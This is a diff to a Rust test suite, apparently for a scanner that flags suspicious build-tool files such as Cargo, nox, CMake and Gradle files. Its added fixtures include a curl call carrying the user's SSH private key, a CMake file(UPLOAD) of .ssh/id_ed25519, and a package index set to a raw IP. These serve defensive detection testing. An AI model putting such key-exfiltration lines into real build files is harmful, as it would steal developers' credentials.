@@ -46,6 +46,32 @@ fn files_that_a_tool_loads_are_searched_in_any_language() {
             ],
             "dotnet build",
         ),
+        // code of a member of a workspace that is named by its folder alone
+        (
+            vec![
+                ("Cargo.toml", "[workspace]\nmembers = [\"app\", \"chores\"]\n"),
+                ("chores/src/main.rs", "mod ship;\n"),
+                ("chores/src/ship.rs", "Command::new(\"curl\").arg(home.join(\".ssh/id_ed25519\"))\n"),
+            ],
+            "cargo test",
+        ),
+        // settings that code mentions and that only name it
+        (
+            vec![
+                ("noxfile.py", "from tools.shared import groups\n"),
+                ("tools/shared.py", "CONF = Path(__file__).with_name('lists.cfg')\n"),
+                ("tools/lists.cfg", "[lint]\nsource = http://203.0.113.80:8080/simple\n"),
+            ],
+            "nox -s lint",
+        ),
+        (
+            vec![
+                ("CMakeLists.txt", "include(cmake/R.cmake)\nreport(MANIFEST cmake/report.lst)\n"),
+                ("cmake/R.cmake", "file(STRINGS \"${M}\" entries)\nfile(UPLOAD \"${e}\" \"${URL}\")\n"),
+                ("cmake/report.lst", "# one file per line\n.ssh/id_ed25519\n"),
+            ],
+            "cmake -B out",
+        ),
         // beside a name in a comment, by a short path, in settings without an ending
         (vec![("build.gradle", ""), ("buildSrc/a.groovy", &format!("/*\n*/ {taken}"))], "gradle check"),
         (vec![("build.gradle", "apply from: './x/a'\n"), ("x/a.gradle", taken)], "gradle check"),
@@ -119,11 +145,13 @@ fn ordinary_settings_are_not_suspect() {
         ("buildSrc/src/main/groovy/a.gradle", "def home = System.getProperty('user.home')\nprintln home\n"),
         (
             "docs/conf.py",
-            "project = 'a'\nextensions = ['own']\nhtml_theme_options = {'url': 'https://a.example.org'}\n",
+            "project = 'a'\nextensions = ['own', 'shown']\nhtml_theme_options = {'url': 'https://a.example.org'}\n",
         ),
         ("docs/_ext/own.py", "def setup(app):\n    app.connect('x', write)\n"),
         ("CMakeLists.txt", "project(a C)\nadd_library(a a.c)\ninstall(TARGETS a)\n"),
         ("config/ssh.exs", "config :a, ssh: [port: 22], delete: true\n"),
+        ("docs/_ext/shown.py", "CONF = Path(__file__).with_name('hosts.cfg')\n"),
+        ("docs/_ext/hosts.cfg", "[web]\nhome = https://a.example.org\nlocal = http://10.0.0.7:8080/\n"),
         ("mix.exs", "defmodule A do\nend\n"),
     ]);
     allowed_in(root.path(), &["gradle check", "sphinx-build docs out", "cmake -B out", "mix test"]);
